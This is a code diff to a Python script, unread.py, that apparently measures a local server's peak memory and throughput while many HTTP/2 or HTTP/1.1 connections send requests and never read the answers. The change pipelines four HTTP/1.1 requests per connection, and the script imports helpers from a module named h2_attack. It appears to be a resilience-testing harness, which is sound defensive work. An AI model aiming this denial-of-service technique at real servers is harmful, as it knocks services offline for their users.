@@ -2,7 +2,8 @@
 
     unread.py PID PORT PROTOCOL PATH CODING [SECONDS]
 
-PROTOCOL is `h2` (40 connections with 100 requests each, whose windows have one byte) or `h1` (1,000 connections). Another client asks
+PROTOCOL is `h2` (40 connections with 100 requests each, whose windows have one byte) or `h1` (1,000 connections with four requests each, one
+behind the other). Another client asks
 for the same again and again, before and during the attack, for SECONDS each (default: 8). Prints JSON: the most memory that the process
 PID ever took in MB, the answers a second that the other client got before and during it, and its statuses during it.
 """
@@ -18,7 +19,7 @@ from http.client import HTTPConnection, HTTPException
 
 from h2_attack import END_HEADERS, END_STREAM, HEADERS, SETTINGS, frame, head
 
-CONNECTIONS, STREAMS = {"h2": 40, "h1": 1000}, 100
+CONNECTIONS, STREAMS, PIPELINED = {"h2": 40, "h1": 1000}, 100, 4
 PIECE = 1 << 18
 
 
@@ -26,7 +27,7 @@ def unread(port, protocol, path, coding):
     """A connection with its requests."""
     connection = socket.create_connection(("127.0.0.1", port), timeout=10)
     if protocol == "h1":
-        connection.sendall(f"GET {path} HTTP/1.1\r\nHost: attacked\r\nAccept-Encoding: {coding}\r\n\r\n".encode())
+        connection.sendall(f"GET {path} HTTP/1.1\r\nHost: attacked\r\nAccept-Encoding: {coding}\r\n\r\n".encode() * PIPELINED)
         return connection
     block = head(path, coding)
     requests = b"".join(frame(HEADERS, END_STREAM | END_HEADERS, 2 * number + 1, block) for number in range(STREAMS))
